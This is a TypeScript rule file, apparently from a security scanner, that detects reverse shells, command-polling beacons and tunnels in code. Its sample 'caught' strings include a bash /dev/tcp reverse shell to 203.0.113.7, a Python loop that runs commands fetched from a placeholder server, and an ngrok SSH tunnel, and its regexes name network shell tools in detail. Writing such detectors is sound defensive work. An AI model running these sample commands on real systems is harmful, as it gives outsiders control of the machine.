import { defineTextRule } from "../text-rule.ts";
import type { Match, TextRule } from "../text-rule.ts";

const family = {
  category: "code",
  severity: "critical",
  action: "reject",
  subject: "commands",
  reasonCode: "suspicious.dangerous_exec",
} as const;

const SHELL = String.raw`["'\x60]?(?:\/bin\/|\/usr\/bin\/|\/system\/bin\/)?(?:env\s)?(?:(?:ba|z|da|k|c)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)(?!\w)`;
/** A shell or a program is started somewhere in the text. */
const STARTS_SHELL = new RegExp(String.raw`(?:\/bin\/(?:ba|z|da)?sh|cmd\.exe|powershell|pty\.spawn|["'](?:ba|z)?sh["'])`, "iu");
const DUPLICATES =
  /\bdup2\s{0,3}\(|STDIN->fdopen|reopen\(|>&S\b|\.pipe\(\s{0,3}\w{1,20}\.stdin|stdio:\s{0,3}\[|std(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\.(?:fileno|makefile)|Stdin\b[^\n=]{0,60}=|open\(\s{0,3}STDIN|StandardInput|iex\s|invoke-expression|proc_open|popen3?|pty\.spawn|PTY\.spawn|subprocess\.(?:call|run|Popen)|\bexec\(|os\.system|execSync|child_process|check_output/iu;

const reverseShell = defineTextRule({
  ...family,
  id: "CODE-REVERSE-SHELL",
  summary: "A program gives a shell of this machine to somebody on the network.",
  why: "Whoever answers at the other end runs what they like, as the user.",
  fix: "Remove it. There is no honest use for it in a skill; a text about it can leave the command out.",
  example: { path: "scripts/run.sh", caught: "bash -i >& /dev/t{gap}cp/203.0.113.7/4444 0>&1\n", instead: "nc -z localhost 8080\n" },
  triggers: [
    {
      anchors: ["/dev/tcp/", "/dev/udp/"],
      behind: 120,
      pattern:
        /(?:(?:ba|z|k|da)?sh\s{1,4}-[a-z]{0,4}i[a-z]{0,4}\s|exec\s{1,4}\d{1,3}<>|>&\s{0,3}|<\s{0,3}|>\s{0,3}|cat\s{1,3}<?)[^\n]{0,60}?\/dev\/(?:tcp|udp)\/[^\n]{1,200}/giu,
      judge: judgeDevTcp,
    },
    {
      anchors: ["nc ", "ncat", "netcat", "nc.exe"],
      pattern: new RegExp(
        String.raw`(?<![\w.-])(?:nc|ncat|netcat|nc\.exe|nc\.traditional|nc\.openbsd)(?!\w)(?=[^\n|;]{0,160}\s(?:-[a-z]{0,6}[ec]|--exec|--sh-exec)\s{0,3}${SHELL})[^\n]{0,200}`,
        "iuy",
      ),
    },
    {
      anchors: ["nc ", "ncat", "netcat", "telnet", "openssl s_client", "socat"],
      behind: 200,
      pattern:
        /(?:mkfifo|mknod)\s[^\n]{1,80}?[\n;&|][^\n]{0,160}?(?:(?:ba|z|da)?sh\s[^\n]{0,60}\|\s{0,4}(?:nc|ncat|netcat|telnet|openssl)|(?:nc|ncat|netcat|telnet|openssl s_client)[^\n]{1,120}\|\s{0,4}(?:\/bin\/)?(?:ba|z|da)?sh)[^\n]{0,120}/giu,
    },
    {
      anchors: ["nc ", "ncat", "netcat", "telnet"],
      pattern: /(?<![\w.-])(?:nc|ncat|netcat|telnet)\s{1,3}[^\n|]{3,80}\|\s{0,4}(?:\/bin\/)?(?:ba|z|da)?sh(?!\w)[^\n]{0,120}/iuy,
    },
    {
      anchors: ["socat"],
      pattern: /(?<!\w)socat(?!\w)(?=[^\n]{0,240}(?:exec|system):)(?=[^\n]{0,240}(?:tcp|udp|openssl|ssl))[^\n]{0,240}/iuy,
    },
    {
      anchors: [
        "socket",
        "tcpsocket",
        "tcpclient",
        "fsockopen",
        "net.connect",
        "net.socket",
        "net.dial",
        "createconnection",
        "io::socket",
        "openssl s_client",
        "net.createconnection",
        "node:net",
        '"net"',
        "'net'",
      ],
      pattern:
        /(?:socket\.socket|socket\.create_connection|socket\(|TCPSocket|Sockets?\.TCPClient|System\.Net\.Sockets|fsockopen|pfsockopen|net\.(?:connect|socket|dial|createconnection)|createconnection|IO::Socket|node:net|["']net["'])/iuy,
      judge: judgeSocket,
    },
    { anchors: ["/inet/tcp/"], pattern: /\/inet\/tcp\/[^\n]{3,200}/iuy },
    {
      anchors: ["pty.spawn"],
      pattern: new RegExp(String.raw`pty\.spawn\s{0,3}\(\s{0,3}\[?\s{0,3}${SHELL}`, "iuy"),
      judge: ({ has }) => (has(/socket|connect\s{0,3}\(/iu) ? {} : { action: "warn" }),
    },
  ],
});

function judgeDevTcp({ text, start, end }: Match): { readonly action?: "warn" } | null {
  const matched = text.slice(start, end + 40);
  if (/-i|0>&1|exec\s+\d+<>|>&\s*\/dev/iu.test(matched))
    return /exec\s+\d/iu.test(matched) &&
      !/(?:\$\{?(?:line|cmd|command|REPLY|l|c)\b|\beval\b|\b(?:ba|z|da)?sh\b)/u.test(text.slice(end, end + 400))
      ? { action: "warn" }
      : {};
  return /localhost|127\.0\.0\.1|\$\{?(?:host|port)|timeout|2>\s*\/dev\/null/iu.test(matched) ? null : { action: "warn" };
}

/** A socket, a shell, and one made the input of the other: each alone is in many programs. */
function judgeSocket({ text, has, place, start }: Match): { readonly what: string } | null {
  if (place.kind === "prose" && !place.isInFence) return null;
  const near = text.slice(Math.max(0, start - 1_500), start + 2_500);
  const isWhole = has(STARTS_SHELL) && has(DUPLICATES);
  const isNear =
    STARTS_SHELL.test(near) &&
    DUPLICATES.test(near) &&
    /connect|dial|TCPClient|TCPSocket|fsockopen|create_?connection|IO::Socket/iu.test(near);
  if (isNear && isWhole) return { what: "A socket is joined to a shell" };
  const isLoop =
    /while|for\s*\(|loop|forever|setInterval|\.on\(\s*["']data["']/iu.test(near) &&
    /recv\(|readline|\.gets|getline|\.on\(\s*["']data["']|GetStream|fgets|read\(/iu.test(near) &&
    RUNS_RECEIVED.test(near);
  return isLoop ? { what: "What comes over a socket is run" } : null;
}

const RUNS_RECEIVED =
  /(?:os\.(?:popen|system)|subprocess\.\w{2,14}|exec(?:Sync)?|eval|system|popen|iex|invoke-expression|exec\.Command)\s{0,3}\(?\s{0,3}(?:["'`](?:sh|bash|cmd)[^\n]{0,30},\s{0,3})?\$?(?:cmd|command|data|line|msg|buf|buffer|input|received|request|payload|d|c|chunk|str|message|task|\$?\w{0,10}cmd)\b/iu;

const beacon = defineTextRule({
  ...family,
  id: "CODE-REMOTE-COMMANDS",
  summary: "A program asks a server again and again what to run.",
  why: "The server decides later what the machine does, long after anybody has reviewed the skill.",
  fix: "Remove it; a skill does what it says, and nothing that a server says.",
  example: {
    path: "scripts/agent.py",
    caught: "while True:\n    cmd = requests.get('https://x.example.invalid/task').text\n    os.sys{gap}tem(cmd)\n",
    instead: "while True:\n    state = requests.get('https://x.example.invalid/state').json()\n    print(state['count'])\n",
  },
  triggers: [
    {
      anchors: [
        "requests.get",
        "requests.post",
        "urlopen",
        "fetch(",
        "httpx.get",
        "axios.get",
        "curl",
        "http.get",
        "https.get",
        "invoke-webrequest",
        "iwr ",
        "invoke-restmethod",
        "net::http",
      ],
      pattern:
        /(?:requests\.(?:get|post)|urlopen|fetch\(|httpx\.(?:get|post)|axios\.(?:get|post)|curl\s|https?\.get|invoke-webrequest|iwr\s|invoke-restmethod|net::http)/iuy,
      judge: judgeBeacon,
    },
  ],
});

const RUN_TEXT =
  /(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|getoutput)|exec(?:Sync)?|eval|Invoke-Expression|iex)\s{0,3}\(?\s{0,3}(?:\[?\s{0,3}["'](?:sh|bash|cmd|powershell)["'],\s{0,3}["']-?\/?c["'],\s{0,3})?["']?\$?\{?(?<from>cmd|command|task|payload|instruction|response|resp|result|reply|body|text|code|script|order|job|data|r|res|c)(?:\.(?:text|stdout|body|data|content|command|cmd|output)|\[["']?(?:command|cmd|task|exec|code|payload)["']?\]|\.strip\(\)|\.decode\(\)|\.get\(["'](?:command|cmd|task|code)["']\))?/iu;

/** The field of an answer that says what to run. */
const RUN_FIELD =
  /(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|getoutput)|exec(?:Sync)?|eval|spawn(?:Sync)?|system|Function)\s{0,3}\(\s{0,3}(?:["'](?:sh|bash|cmd|require)["'],\s{0,3}(?:\[?["']-c["'],\s{0,3})?)?\w{1,20}(?:\[["'](?:cmd|command|exec|run|shell|code|script|payload)["']\]|\.get\(["'](?:cmd|command|exec|code|script|payload)["']|\.(?:cmd|command|code|script|payload)\b)/u;

function judgeBeacon({ text, start, place }: Match): { readonly what?: string } | null {
  if (place.kind === "prose" && !place.isInFence) return null;
  const after = text.slice(start, start + 1_200);
  if (place.kind === "script" && RUN_FIELD.test(after)) return { what: "What a server answers is run as a command" };
  const run = RUN_TEXT.exec(after);
  if (!run) return null;
  const before = text.slice(Math.max(0, start - 600), start);
  const isLoop = /while\s*(?:True|1|true|:|\(|\[)|for\s*\(\s*;;|setInterval|loop\s*do|forever|until\s+false|schedule\./iu.test(
    before + after,
  );
  const variable = run.groups?.["from"] ?? "";
  const isAssigned = new RegExp(
    String.raw`(?<![\w.])\$?${variable}\s{0,3}(?::[^=\n]{0,20})?=\s{0,3}(?:\$\(|await\s|\()?[^\n]{0,80}\b(?:requests|urlopen|fetch|httpx|axios|curl|response|resp|r|res|reply|https?\.|iwr|invoke-)`,
    "iu",
  ).test(`${text.slice(Math.max(0, start - 80), start)}${after}`);
  if (!isAssigned) return null;
  return isLoop ? {} : { what: "What a server answers is run as a command" };
}

const tunnel = defineTextRule({
  ...family,
  id: "CODE-TUNNEL",
  severity: "medium",
  action: "warn",
  summary: "A program opens a way into this machine from the internet.",
  why: "What listens on the machine was meant for the machine alone.",
  fix: "Leave it to users to open a tunnel; never open one to a shell or a desktop.",
  example: { path: "scripts/run.sh", caught: "ng{gap}rok tcp 22\n", instead: "ssh -L 8080:localhost:80 host\n" },
  triggers: [
    {
      anchors: ["ttyd", "gotty", "wetty", "shellinabox", "tmate", "upterm"],
      pattern:
        /(?<![\w.-])(?:(?:ttyd|gotty)\s[^\n]{0,80}?\b(?:ba|z)?sh\b|ttyd\s[^\n]{0,40}-W|gotty\s[^\n]{0,40}-w|wetty\s|shellinaboxd\s|tmate\s{1,3}-[FS]|upterm\s{1,3}host)[^\n]{0,160}/iuy,
      judge: ({ text, start, end }) =>
        /ngrok|cloudflared|tunnel|0\.0\.0\.0|https?:/iu.test(text.slice(start, end + 160)) ? { action: "reject" } : {},
    },
    {
      anchors: [
        "ngrok",
        "cloudflared",
        "localtunnel",
        "serveo",
        "localhost.run",
        "bore ",
        "chisel",
        "frpc",
        "tailscale funnel",
        "pinggy",
        "ssh -",
      ],
      pattern:
        /(?<![\w.-])(?:ngrok\s{1,3}(?:tcp|tls)\s|cloudflared\s{1,3}(?:access\s{1,3}tcp|tunnel[^\n]{0,80}(?:ssh|rdp|tcp):)|bore\s{1,3}local\s|chisel\s{1,3}(?:client|server)\s|frpc\s|ssh\s[^\n]{0,80}-R\s{0,3}\d{1,5}:(?:localhost|127\.0\.0\.1):(?:22|3389|5900)|ssh\s[^\n]{0,80}-R\s[^\n]{0,60}(?:serveo\.net|localhost\.run|pinggy))[^\n]{0,120}/iuy,
      judge: ({ text, start, end }) => (/sshd|:22\b|\s22\b|3389|5900|chisel/iu.test(text.slice(start, end)) ? { action: "reject" } : {}),
    },
  ],
});

export const remoteControlRules: readonly TextRule[] = [reverseShell, beacon, tunnel];
